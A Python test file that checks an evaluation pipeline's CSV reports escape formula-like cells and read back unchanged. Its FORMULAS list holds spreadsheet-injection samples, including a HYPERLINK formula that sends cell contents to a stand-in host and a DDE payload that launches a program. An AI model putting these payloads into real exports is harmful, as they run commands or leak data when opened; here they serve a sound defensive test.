"""evaluate's per-example outputs: the CSV reports are safe to open in a spreadsheet and read back unchanged."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd

from stages.model.predictions import predictions_table, worst_errors, write_csv

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+1", "-cmd|' /C calc'!A0", "\tx"]


def test_csv_reports_escape_formula_cells_and_read_back_unchanged(tmp_path: Path) -> None:
    """Test texts, ids and label names such as `=HYPERLINK(...)` reached the CSV reports as they were:
    a spreadsheet opening them runs the formula. Every string cell starting with = + - @ tab or CR is
    now written after a `'`; numbers stay numbers, and `csvsafe.read_csv` gives the values back."""
    from stages.core.csvsafe import read_csv

    names = ["-1", "+1"]  # label names can look like formulas too
    ids = [*FORMULAS, "'quoted", "plain"]
    y = np.array([0, 1, 0, 1, 0, 1, 0])
    model = np.tile([[0.25, 0.75]], (7, 1))
    preds = predictions_table(ids, y, model, model, names)
    worst = worst_errors(preds, [*FORMULAS, "'quoted", "plain"], n=10, excerpt_chars=100)
    for name, df in (("predictions.csv", preds), ("worst_errors.csv", worst)):
        write_csv(tmp_path / name, df)
        cells = pd.read_csv(tmp_path / name, dtype=str, keep_default_na=False).to_numpy().ravel()
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        back = read_csv(tmp_path / name, dtype={"id": str, "label": str, "pred": str, "baseline_pred": str})
        pd.testing.assert_frame_equal(back, df, check_dtype=False, atol=1e-6)
    raw = (tmp_path / "predictions.csv").read_text()
    assert ",0.750000," in raw and "\n'@SUM(1+1),'+1,'+1,0.750000,1," in raw
